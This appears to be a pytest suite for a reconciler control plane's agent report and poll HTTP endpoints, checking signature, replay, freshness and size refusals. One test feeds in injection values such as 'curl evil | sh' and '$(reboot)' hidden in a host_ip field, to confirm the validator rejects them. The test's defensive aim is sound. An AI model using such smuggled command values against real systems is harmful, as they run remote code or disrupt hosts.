"""Agents report and poll, over real HTTP."""

from __future__ import annotations

import json
import queue
import socket
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest

from node_agent.wire import (
    MESSAGE_BYTES_MAX,
    POLL_TYPE,
    REPORT_TYPE,
    Endpoint,
    FailureReason,
    Phase,
    PollReply,
    Report,
    TaskAck,
    WorkloadReport,
)
from reconciler.ports import Changes
from reconciler.server import agent_api
from tests.fakes.store import MemoryStore
from tests.server.harness import (
    NOW_MS,
    Agent,
    Plane,
    a_store,
    acks,
    an_intent,
    refusal,
    running,
    shows,
)
from tests.waiting import wait_until

REPORT = "/v1/agent/report"
POLL = "/v1/agent/poll"


def serving(**endpoint: Any) -> WorkloadReport:
    return WorkloadReport(
        instance="acme/research/hello",
        target_hash="sha256:1",
        running_hash="sha256:1",
        phase=Phase.READY,
        endpoints=(Endpoint(**endpoint),),
    )


class TestReport:
    def test_a_report_is_stored_and_wakes_the_loop(self, plane: Plane) -> None:
        agent = plane.enrol()
        report = agent.make_report(5, last_seq=3)
        answer = plane.post(REPORT, agent.seal(report.canonical(), REPORT_TYPE))
        assert answer.status_code == 200
        assert answer.json() == {"report_seq": 5, "received_at_ms": NOW_MS}
        assert plane.woken.get(timeout=60) == "report"
        node = plane.store.node("node-1")
        assert node is not None
        assert node.report_json is not None
        assert Report.model_validate_json(node.report_json) == report
        assert (node.report_seq, node.last_task_seq, node.reported_at_ms) == (5, 3, NOW_MS)

    def test_a_heartbeat_that_says_nothing_new_wakes_nobody(self, plane: Plane) -> None:
        agent = plane.enrol()
        for seq in (1, 2, 3):
            report = agent.make_report(seq)
            plane.post(REPORT, agent.seal(report.canonical(), REPORT_TYPE))
        changed = agent.make_report(4, complete=False)
        plane.post(REPORT, agent.seal(changed.canonical(), REPORT_TYPE))
        assert [plane.woken.get(timeout=60) for _ in range(2)] == ["report", "report"]
        assert plane.woken.empty()

    def test_progress_waits_and_what_comes_of_it_does_not(
        self, plane: Plane, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(agent_api, "PROGRESS_WAITS_S", 3600.0)
        agent = plane.enrol()
        told = [
            WorkloadReport(
                instance="acme/research/hello", target_hash="sha256:1", running_hash=None,
                phase=phase, reason=reason, since_ms=seq,
            )
            for seq, (phase, reason) in enumerate((
                (Phase.PULLING, None), (Phase.STARTING, None), (Phase.STARTING, None),
                (Phase.STARTING, FailureReason.EXITED), (Phase.READY, None),
            ))
        ]  # fmt: skip
        for seq, one in enumerate(told, 1):
            # That it was taken over is written down at once; nothing follows from it.
            given = acks("t-1") if seq == 2 else ()
            answer = plane.post(REPORT, agent.report(seq, workloads=(one,), acks=given))
            assert answer.status_code == 200
        # The first and what came of it wake at once, progress later.
        assert [plane.woken.get(timeout=60) for _ in range(3)] == ["report"] * 3
        assert plane.woken.empty()
        monkeypatch.setattr(agent_api, "PROGRESS_WAITS_S", 0.01)
        for seq, one in enumerate(told[:2], 6):
            plane.post(REPORT, agent.report(seq, workloads=(one,)))
        assert [plane.woken.get(timeout=60) for _ in range(2)] == ["report"] * 2

    def test_its_acknowledgements_settle_tasks(self, plane: Plane) -> None:
        agent = plane.enrol()
        plane.store.commit(Changes(intents=[an_intent(1), an_intent(2), an_intent(3, "node-2")]))
        no = TaskAck(task_id="t-2", accepted=False, code="expired", message="too late")
        given = (*acks("t-1", "t-3"), no)
        assert plane.post(REPORT, agent.report(acks=given)).status_code == 200
        assert [(one.state, one.detail) for one in plane.store.intents()] == [
            ("accepted", ""),
            ("refused", "expired: too late"),
            ("queued", ""),
        ]

    @pytest.mark.parametrize("report_seq", [5, 4])
    def test_a_replayed_report(self, plane: Plane, report_seq: int) -> None:
        agent = plane.enrol()
        plane.post(REPORT, agent.report(5))
        plane.store.commit(Changes(intents=[an_intent(1)]))
        assert plane.woken.get(timeout=60) == "report"
        answer = plane.post(REPORT, agent.report(report_seq, acks=acks("t-1")))
        assert refusal(answer) == (
            409,
            "replayed_report",
            f"report {report_seq} is not newer than the last one",
        )
        assert [intent.state for intent in plane.store.intents()] == ["queued"]
        with pytest.raises(queue.Empty):
            plane.woken.get_nowait()

    @pytest.mark.parametrize("skew_ms", [-60_001, 60_001])
    def test_a_report_from_another_time(self, plane: Plane, skew_ms: int) -> None:
        agent = plane.enrol()
        answer = plane.post(REPORT, agent.report(sent_at_ms=NOW_MS + skew_ms))
        assert refusal(answer) == (
            422,
            "not_fresh",
            "sent more than 60 s from now by the control plane's clock: check the clocks",
        )
        assert plane.post(REPORT, agent.report(sent_at_ms=NOW_MS - 60_000)).status_code == 200

    def test_a_node_that_never_joined(self, plane: Plane) -> None:
        plane.enrol()
        answer = plane.post(REPORT, Agent().report())
        assert refusal(answer) == (
            401,
            "unknown_node",
            "no enrolled node has this key: join first",
        )

    def test_a_key_from_before_the_node_joined_again(self, plane: Plane) -> None:
        before, after = plane.enrol(), plane.enrol()
        assert refusal(plane.post(REPORT, before.report()))[1] == "unknown_node"
        assert plane.post(REPORT, after.report()).status_code == 200

    def test_a_changed_payload(self, plane: Plane) -> None:
        agent = plane.enrol()
        signed = agent.report(5)
        forged = {**signed, "payload": agent.report(6)["payload"]}
        assert refusal(plane.post(REPORT, forged)) == (
            401,
            "bad_signature",
            "the signature does not match the payload",
        )
        assert plane.store.nodes()[0].report_json is None

    def test_speaking_for_another_node(self, plane: Plane) -> None:
        agent = plane.enrol("node-1")
        plane.enrol("node-2")
        answer = plane.post(REPORT, agent.report(node="node-2"))
        assert refusal(answer) == (
            403,
            "wrong_node",
            "this key belongs to node node-1, not the sender",
        )

    def test_another_kind_of_envelope(self, plane: Plane) -> None:
        answer = plane.post(REPORT, plane.enrol().poll())
        assert refusal(answer) == (400, "wrong_type", f"expected {REPORT_TYPE}")

    def test_not_an_envelope(self, plane: Plane) -> None:
        answer = plane.post(REPORT, {"no": "envelope"})
        assert refusal(answer) == (400, "malformed", "not a DSSE envelope (ValueError)")

    def test_a_signed_payload_that_is_no_report(self, plane: Plane) -> None:
        agent = plane.enrol()
        answer = plane.post(REPORT, agent.seal(b'{"node": "node-1"}', REPORT_TYPE))
        assert refusal(answer) == (422, "invalid_message", "agent_version: Field required")

    @pytest.mark.parametrize(
        "numbers", [{"report_seq": 2**63}, {"last_seq": 2**63}, {"last_seq": -1}]
    )
    def test_numbers_out_of_range(self, plane: Plane, numbers: dict[str, int]) -> None:
        agent = plane.enrol()
        answer = plane.post(REPORT, agent.report(**{"report_seq": 1, **numbers}))
        assert refusal(answer) == (
            422,
            "invalid_message",
            "report_seq or last_seq is out of range",
        )

    @pytest.mark.parametrize(
        "where",
        [
            {"host_ip": "127.0.0.1:80 x; curl evil | sh #"},
            {"host_ip": "evil.example"},
            {"host_ip": "fe80::1%$(reboot)"},
            {"host_port": 0},
            {"container": 65_536},
        ],
        ids=str,
    )
    def test_an_endpoint_that_is_no_address_and_port(
        self, plane: Plane, where: dict[str, Any]
    ) -> None:
        """Attempted: words of a node in the command that a person is shown to paste."""
        agent = plane.enrol()
        good = {"name": "http", "container": 80, "host_ip": "127.0.0.1", "host_port": 20_001}
        message = "an endpoint is no address with a port"
        answer = plane.post(REPORT, agent.report(1, workloads=(serving(**{**good, **where}),)))
        assert refusal(answer) == (422, "invalid_message", message)
        for number, there in enumerate(("127.0.0.1", "::1", "fe80::1%eth0"), 2):
            serves = serving(**{**good, "host_ip": there})
            answer = plane.post(REPORT, agent.report(number, workloads=(serves,)))
            assert answer.status_code == 200

    def test_a_number_too_high_to_count_on_from(self, plane: Plane) -> None:
        """Attempted: one node stops every task of all, as no higher number can be stored."""
        agent = plane.enrol()
        answer = plane.post(REPORT, agent.report(1, last_seq=2**63 - 1))
        assert refusal(answer)[1:] == (
            "invalid_message",
            "report_seq or last_seq is out of range",
        )
        assert plane.post(REPORT, agent.report(2, last_seq=2**53)).status_code == 200
        following = plane.store.next_seq("node-1")
        plane.store.commit(Changes(intents=(an_intent(following),)))
        assert plane.post(REPORT, agent.report(3, last_seq=following)).status_code == 200

    @pytest.mark.parametrize(
        ("fields", "message"),
        [
            ({"acks": acks(*["t"] * 10_001)}, "a list has more than 10000 entries"),
            ({"agent_version": "v" * 4_001}, "a text is longer than 4000 characters"),
            ({"connected_at_ms": 10**30}, "a number is out of range"),
        ],
    )
    def test_a_report_made_to_be_heavy(
        self, plane: Plane, fields: dict[str, Any], message: str
    ) -> None:
        """Attempted: 8 MB of acknowledgements, strays or words for every pass to carry."""
        agent = plane.enrol()
        answer = plane.post(REPORT, agent.report(1, **fields))
        assert refusal(answer) == (422, "invalid_message", message)
        node = plane.store.node("node-1")
        assert node is not None
        assert node.report_json is None

    def test_an_envelope_of_many_signatures(self, plane: Plane) -> None:
        """Attempted: work for the control plane, by somebody without a key."""
        agent = plane.enrol()
        sealed = agent.report()
        sealed["signatures"] *= 17
        answer = plane.post(REPORT, sealed)
        assert refusal(answer) == (400, "malformed", "not a DSSE envelope (ValueError)")

    def test_a_body_that_never_ends(self) -> None:
        """Attempted: to hold connections open by sending next to nothing."""
        with running(MemoryStore(), body_timeout_s=0.05) as plane:
            url = plane.agents.base_url
            with socket.create_connection((url.host, url.port or 0), 30) as connection:
                connection.sendall(b"POST /v1/agent/join HTTP/1.1\r\nHost: x\r\n")
                connection.sendall(b"Content-Length: 9\r\n\r\n{")
                assert connection.recv(4096).startswith(b"HTTP/1.1 408 ")

    @pytest.mark.parametrize("chunked", [False, True])
    def test_a_body_that_is_too_large(self, plane: Plane, chunked: bool) -> None:
        content = b" " * (MESSAGE_BYTES_MAX + 1)
        pieces = (content[at : at + 65_536] for at in range(0, len(content), 65_536))
        shown = shows("0" * 64)
        answer = plane.agents.post(REPORT, content=pieces if chunked else content, headers=shown)
        assert refusal(answer) == (
            413,
            "too_large",
            f"the body is larger than {MESSAGE_BYTES_MAX} bytes",
        )


class TestPoll:
    def test_queued_tasks_come_at_once_oldest_first(self, plane: Plane) -> None:
        agent = plane.enrol()
        plane.store.commit(Changes(intents=[an_intent(2), an_intent(1), an_intent(3, "node-2")]))
        answer = plane.post(POLL, agent.poll(wait_ms=60_000))
        assert answer.status_code == 200
        reply = PollReply.model_validate_json(answer.content)
        assert reply.tasks == ({"payload": "task 1"}, {"payload": "task 2"})

    def test_the_same_again_until_acknowledged(self, plane: Plane) -> None:
        agent = plane.enrol()
        plane.store.commit(Changes(intents=[an_intent(1)]))
        for _ in range(2):
            assert len(plane.post(POLL, agent.poll()).json()["tasks"]) == 1
        plane.post(REPORT, agent.report(acks=acks("t-1")))
        assert plane.post(POLL, agent.poll()).json() == {"tasks": []}

    def test_an_expired_task_is_not_handed_out(self, plane: Plane) -> None:
        agent = plane.enrol()
        plane.store.commit(Changes(intents=[an_intent(1)]))
        plane.clock.ms += 60_000
        poll = agent.poll(sent_at_ms=plane.clock.ms)
        assert plane.post(POLL, poll).json() == {"tasks": []}

    @pytest.mark.parametrize("kind", ["memory", "sqlite"])
    def test_a_waiting_poll_wakes_when_a_task_is_queued(self, tmp_path: Path, kind: str) -> None:
        """The signal alone must do it: the store would be looked at again after an hour only."""
        with (
            a_store(kind, tmp_path) as store,
            running(store, task_recheck_interval_s=3600) as plane,
            ThreadPoolExecutor(1) as pool,
        ):
            agent = plane.enrol()
            waiting = pool.submit(plane.post, POLL, agent.poll(wait_ms=60_000))
            wait_until(lambda: plane.signal.waiting_count == 1)
            plane.signal.notify("node-2")
            assert not waiting.done()
            plane.store.commit(Changes(intents=[an_intent(1)]))
            plane.signal.notify("node-1")
            assert waiting.result().json() == {"tasks": [{"payload": "task 1"}]}
            assert plane.signal.waiting_count == 0

    def test_a_task_queued_by_another_process_is_found(self, plane: Plane) -> None:
        agent = plane.enrol()
        with ThreadPoolExecutor(1) as pool:
            waiting = pool.submit(plane.post, POLL, agent.poll(wait_ms=60_000))
            wait_until(lambda: plane.signal.waiting_count == 1)
            plane.store.commit(Changes(intents=[an_intent(1)]))
            assert waiting.result().json() == {"tasks": [{"payload": "task 1"}]}

    def test_the_wait_ends(self, plane: Plane) -> None:
        agent = plane.enrol()
        assert plane.post(POLL, agent.poll(wait_ms=50)).json() == {"tasks": []}

    def test_the_server_bounds_the_wait(self) -> None:
        with running(MemoryStore(), long_poll_s=0.05) as plane:
            agent = plane.enrol()
            assert plane.post(POLL, agent.poll(wait_ms=60_000)).json() == {"tasks": []}

    def test_stopping_the_server_answers_open_polls(self) -> None:
        client = httpx.Client(timeout=60)
        with ThreadPoolExecutor(1) as pool, client:
            with running(MemoryStore(), task_recheck_interval_s=3600) as plane:
                agent = plane.enrol()
                url, shown = plane.agents.base_url.join(POLL), shows(agent.public_key)
                poll = agent.poll(wait_ms=60_000)
                waiting = pool.submit(client.post, url, json=poll, headers=shown)
                wait_until(lambda: plane.signal.waiting_count == 1)
            assert waiting.result().json() == {"tasks": []}

    def test_more_than_fits_comes_in_several_messages(self, plane: Plane) -> None:
        agent = plane.enrol()
        large = json.dumps({"payload": "x" * (MESSAGE_BYTES_MAX // 3)})
        intents = [an_intent(number, envelope_text=large) for number in (1, 2)]
        plane.store.commit(Changes(intents=intents))
        assert len(plane.post(POLL, agent.poll()).json()["tasks"]) == 1
        plane.store.acknowledge("node-1", acks("t-1"))
        assert len(plane.post(POLL, agent.poll()).json()["tasks"]) == 1

    @pytest.mark.parametrize(
        ("fields", "status", "code"),
        [
            ({"node": "node-2"}, 403, "wrong_node"),
            ({"sent_at_ms": NOW_MS - 60_001}, 422, "not_fresh"),
        ],
    )
    def test_refusals(self, plane: Plane, fields: dict[str, Any], status: int, code: str) -> None:
        agent = plane.enrol()
        assert refusal(plane.post(POLL, agent.poll(**fields)))[:2] == (status, code)

    def test_refused_envelopes(self, plane: Plane) -> None:
        agent = plane.enrol()
        assert refusal(plane.post(POLL, Agent().poll()))[1] == "unknown_node"
        assert refusal(plane.post(POLL, agent.report()))[1] == "wrong_type"
        forged = {**agent.poll(), "payload": agent.poll(wait_ms=1)["payload"]}
        assert refusal(plane.post(POLL, forged))[1] == "bad_signature"
        unreadable = agent.seal(b"{}", POLL_TYPE)
        assert refusal(plane.post(POLL, unreadable)) == (
            422,
            "invalid_message",
            "node: Field required",
        )
